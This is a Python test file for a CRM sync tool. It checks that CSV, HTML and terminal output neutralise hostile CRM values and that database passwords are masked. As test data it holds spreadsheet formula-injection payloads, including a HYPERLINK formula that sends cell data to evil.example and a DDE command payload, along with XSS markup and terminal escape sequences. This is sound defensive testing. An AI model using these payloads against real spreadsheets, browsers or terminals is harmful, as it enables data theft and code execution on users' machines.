"""CRM values are typed by anyone: what crmsync prints or writes never runs in a spreadsheet, a
terminal or a browser, and the database password never shows."""

from __future__ import annotations

import csv
import html
import io
import json
from datetime import timedelta
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from crmsync.redact import csv_cell, safe_url, terminal_safe
from crmsync.reporting.report import build_report, render_csv, render_html
from crmsync.store import Store
from crmsync.store import schema as t
from crmsync.store.kinds import RunKind
from crmsync.sync import SyncPass
from tests.conftest import SQLITE_ONLY
from tests.hubspot_fixtures import DEFS, SEED_NOW, connector, hubspot
from tests.test_cli import run
from tests.test_report import NOW, history

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1+cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\tleading tab", "\rleading CR"]
CONTROL = "VP \x1b[31mFinance\x07\x1b]0;owned\x07\r\x9b2J"


def hostile_store(url: str, values: list[str]) -> Store:
    """The known history of test_report, with hostile sources and owners from the CRM."""
    store = Store.open(url)
    history(store)
    with store.transaction() as c:
        for i, value in enumerate(values):
            c.execute(update(t.records).where(t.records.c.record_id == str(i))
                      .values(source=value, owner_id=value, dq_reason=value if i >= 10 else None))
    return store


@given(st.text())
def test_no_text_cell_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (value, "'" + value)


def test_numbers_stay_numbers() -> None:
    assert csv_cell(-2.5) == -2.5 and csv_cell(0) == 0 and csv_cell(None) is None


# SQLite only (escaping is after the store; no NUL); PostgreSQL's Store.reported: test_report*.py
@SQLITE_ONLY
def test_report_csv_by_source_and_owner_neutralises_every_formula(database_url: str) -> None:
    store = hostile_store(database_url, FORMULAS + [f"<b>{i}</b>" for i in range(13)])
    for by in ("source", "owner"):
        rows = list(csv.reader(io.StringIO(render_csv(build_report(store, DEFS, NOW - timedelta(days=90), NOW, by)))))
        cells = [cell for row in rows for cell in row]
        assert {f"'{value}" for value in FORMULAS} <= set(cells)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# SQLite only (escaping is after the store; no NUL); PostgreSQL's Store.reported: test_report*.py
@SQLITE_ONLY
def test_html_report_escapes_every_crm_value(database_url: str) -> None:
    markup = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='x",
              "<svg onload=alert(1)>", "&lt;b&gt;"]
    store = hostile_store(database_url, markup * 4)
    page = render_html(build_report(store, DEFS, NOW - timedelta(days=90), NOW, "source"))
    for value in markup:
        assert value not in page
        assert html.escape(value, quote=True) in page  # the reason code shows, escaped
    assert "<script" not in page and "<img" not in page and "<svg onload" not in page


def test_terminal_safe_keeps_text_and_lines() -> None:
    assert terminal_safe(CONTROL) == "VP [31mFinance]0;owned2J"
    assert terminal_safe("line one\n\tline two é 中") == "line one\n\tline two é 中"


# SQLite only (stripping is after the store); PostgreSQL's explain, runs: test_governance.py CLI, test_run_closing.py
@SQLITE_ONLY
def test_explain_and_status_strip_control_characters(database_url: str) -> None:
    with hubspot(0) as (app, url):
        contact = app.portal.create("contacts", {"email": "ada@northwind-pay.com", "firstname": "Ada\x1b[8m",
                                                 "jobtitle": CONTROL, "company": "Northwind\x07"},
                                     at=SEED_NOW - timedelta(hours=1))
        store = Store.open(database_url)
        SyncPass(store, connector(url), DEFS, clock=lambda: SEED_NOW).run()
    run_id = store.start_run("hubspot", RunKind.SYNC, "enforce", None)
    store.finish_run(run_id, "failed", {}, "HubSpot said \x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07")
    env = {"CRMSYNC_DATABASE_URL": database_url}
    shown = run("explain", contact.id, env=env)
    assert shown.returncode == 0, shown.stderr
    assert "VP [31mFinance" in shown.stdout
    status = run("status", env=env)
    assert status.returncode == 0, status.stderr
    assert "HubSpot said [2J]8;;http://evil.exampleclick]8;;" in status.stdout
    for output in (shown.stdout, status.stdout):
        assert not any(ch in output for ch in "\x1b\x07\r\x9b")


def test_doctor_json_masks_the_database_password(tmp_path: Path) -> None:
    url = "postgresql://crmsync:hunter2-secret@127.0.0.1:1/crmsync"
    result = run("doctor", "--json", env={"CRMSYNC_DATABASE_URL": url})
    assert "hunter2-secret" not in result.stdout + result.stderr
    assert json.loads(result.stdout)["settings"]["database_url"] == "postgresql://crmsync:***@127.0.0.1:1/crmsync"


def test_safe_url_masks_passwords_in_any_text() -> None:
    assert safe_url("postgresql+psycopg://u:p%40ss@db:5432/x") == "postgresql+psycopg://u:***@db:5432/x"
    assert safe_url("failed for postgres://a:b@h/d; retry") == "failed for postgres://a:***@h/d; retry"
    assert safe_url("sqlite:///crmsync.db") == "sqlite:///crmsync.db"
    assert safe_url("https://user@host/x") == "https://user@host/x"
